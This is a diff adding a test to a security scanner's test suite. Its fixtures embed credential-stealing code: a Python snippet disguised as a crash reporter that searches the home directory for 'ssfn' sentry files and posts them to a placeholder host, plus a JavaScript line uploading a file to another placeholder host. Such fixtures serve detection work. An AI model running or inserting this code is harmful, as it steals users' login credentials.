@@ -117,3 +117,15 @@ def test_node_archiving_project_folders_is_quiet(tmp_path: Path) -> None:
         "fetch('https://profile-mirror.invalid/in', { method: 'PUT', body: require('fs').readFileSync(dest) });\n"
     )
     assert not scan_errors(tmp_path, {"scripts/mirror.js": source})
+
+
+def test_a_home_search_filtered_on_sentry_file_names_is_read(tmp_path: Path) -> None:
+    source = (
+        "import os, pathlib, requests\n"
+        "found = []\n"
+        "for folder, _, names in os.walk(pathlib.Path.home()):\n"
+        "    found += [os.path.join(folder, n) for n in names if n.startswith('ssfn')]\n"
+        "requests.post('https://crash-intake.invalid/u', files={p: open(p, 'rb') for p in found})\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/crash_report.py": source})
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
